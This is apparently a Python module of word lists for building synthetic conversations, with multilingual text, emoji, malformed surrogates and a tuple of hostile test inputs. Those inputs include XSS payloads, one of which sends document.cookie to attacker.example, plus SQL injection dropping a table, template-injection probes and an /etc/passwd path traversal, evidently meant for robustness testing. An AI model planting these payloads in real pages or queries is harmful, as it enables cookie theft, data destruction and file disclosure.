"""The words the invented conversations are made of, the commonest first in each list."""

from __future__ import annotations


def listed(text: str) -> tuple[str, ...]:
    """Return the words of a text."""
    return tuple(text.split())


NOUNS = listed("""
thing way time question answer day list file line table number part place idea case page name word
value path house garden kitchen door window bread soup letter journey river mountain street market
harbour bridge station train bicycle engine motor wheel lamp clock mirror carpet cupboard recipe
oven kettle spoon bowl basket bottle teacher neighbour sister brother uncle friend doctor gardener
baker driver painter sailor engineer translator server client request response packet socket
buffer thread queue stack index column row record field key token module package function method
class object string integer array loop branch commit patch release version test budget invoice
salary contract pension tax receipt account balance deposit interest rent loan savings fee price
meeting schedule deadline agenda minutes proposal draft summary report outline chapter paragraph
sentence title exercise muscle knee shoulder breath sleep dinner breakfast vegetable tomato onion
garlic pepper butter cheese weather rain snow wind cloud storm season winter summer autumn spring
evening morning night weekend holiday grammar verb accent dialect poem novel essay melody chord
rhythm violin piano guitar choir concert stage atom molecule orbit planet comet galaxy telescope
lens signal noise sensor voltage current resistor battery forest meadow hedge orchard seed root
leaf blossom compost soil spade rake bee hen goat lamb horse sparrow margin ratio angle triangle
circle axis vector matrix proof lemma theorem limit series integral sum product symptom allergy
dose tablet bandage fever cough pulse appointment clinic nurse insurance claim clause appeal
""")

VERBS = listed("""
makes takes keeps gives finds needs uses shows moves holds opens closes turns reads writes starts
stops checks sends returns counts sorts builds breaks changes follows explains covers carries
brings catches connects adds removes replaces compares measures collects divides doubles drops
edits enters fills fixes folds forms gathers grows guides handles helps hides improves includes
joins joins lifts limits links loads locks marks matches merges mixes names notes notices offers
orders packs paints passes pauses plans plants prints protects proves pulls pushes raises reaches
records reduces refuses removes repairs repeats resets resolves restores saves scales searches
selects separates serves shapes shares shifts solves splits stores supports switches tests tracks
trims tunes updates verifies visits warms washes watches weighs wraps yields
""")

BASES = listed("""
make take keep give find need use show move hold open close turn read write start stop check send
return count sort build break change follow explain cover carry bring catch connect add remove
replace compare measure collect divide double drop edit enter fill fix fold form gather grow guide
handle help hide improve include join lift limit link load lock mark match merge mix name note
notice offer order pack paint pass pause plan plant print protect prove pull push raise reach
record reduce refuse repair repeat reset resolve restore save scale search select separate serve
shape share shift solve split store support switch test track trim tune update
""")

ADJECTIVES = listed("""
good new small long old large whole next last early late short plain simple clear quick slow
careful quiet warm cold dry wet bright dark empty full open closed common rare local remote public
private safe fresh gentle steady rough smooth narrow wide deep shallow heavy light sharp blunt
round square flat steep loose tight clean rusty wooden golden silver copper linear random stable
fragile nested parallel separate missing broken valid invalid cheap expensive honest curious
patient nervous friendly formal modern ancient annual weekly daily monthly final partial relative
absolute generic specific optional sufficient redundant portable tolerant implicit explicit
""")

ADVERBS = listed("""
usually often always never sometimes rarely slowly quickly carefully quietly clearly simply nearly
almost exactly roughly mostly partly early late again twice already still soon later therefore
however instead otherwise meanwhile gradually suddenly evenly neatly safely directly locally
automatically
""")

DETERMINERS = listed("the the the the a a this each every that one another your our its any")
PREPOSITIONS = listed(
    "of in for with on to from by at under over between without after before through into near "
    "beside against during across along behind"
)
CONJUNCTIONS = listed("and but so because while if when unless although until since whereas")
SUBJECTS = listed("you we I it they someone nobody everybody")
MODALS = listed("can should could may might must will would cannot")

STEMS = listed("""
calib integr oper regul gener evalu transl valid aggreg deleg simul stimul termin orient separ
navig compens illustr concentr demonstr innov migr alloc activ anim applic autom celebr circul
communic configur consolid construct coordin correl deriv design destin deton domin duplic educ
elabor elev elimin emul enumer estim fabric facilit federh filtr fluctu formul fragment habit
hesit imit implic indic initi inspir instig insul interpol interrog invers investig isol iter
labor legisl levit liber liquid liter loc magnet manipul marin mediat medit mod mold motiv narr
neg nomin not obstin oblig oscill particip penetr perfor plagi pollin postul precipit predic
prolifer propag punctu radi recre refriger relax remedi renov replic reson restor rot satur
sediment segreg speci specul stabil subordin substitu syndic tabul toler transform ventil vibr
""")
SUFFIXES = listed("ation ator ating ated ative ations ators ional atively ance ary ement ible able")

CJK = (
    "今天天气很好我们去公园散步吧请问这个问题怎么解决谢谢你的帮助数据已经保存",
    "昨日はとても暑かったので川へ行きました次の会議は金曜日です確認してください",
    "오늘은비가와서집에서책을읽었어요다음주에다시이야기합시다감사합니다",
)
RTL = (
    "مرحبا كيف حالك اليوم أريد أن أسأل عن الطقس غدا شكرا جزيلا",
    "שלום מה שלומך היום אני רוצה לשאול על מזג האוויר מחר תודה רבה",
)
EMOJI = ("👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇪🇺", "🧑‍💻", "😅", "🎉", "🦊", "❤️‍🔥")
HOSTILE = (
    "</script><script>alert('chat')</script>",
    "<img src=x onerror=\"fetch('https://attacker.example/?c='+document.cookie)\">",
    "<!-- --><svg/onload=confirm`1`>&lt;b&gt;&amp;amp;</textarea>",
    "a \"quoted\" C:\\temp\\new path\\, a 'single' one and a trailing backslash \\",
    "'; DROP TABLE messages; -- ' OR 1=1",
    "]]>{{7*7}}${7*7}<%= 7*7 %>%s%n../../etc/passwd",
    "line\u2028separator paragraph\u2029separator zero\u200bwidth \u202eoverride\u202c end",
    'var jsonData = [{"title": "not the array"}]; }, {"title": "nor this"',
    "\x1b[31mred\x1b[0m bell\x07 back\x08space null\x00 tab\t return\r\n",
)
SURROGATES = ("\ud83d", "\udc4d half", "text \ud800\u0041 text", "\udfff\ud83d")
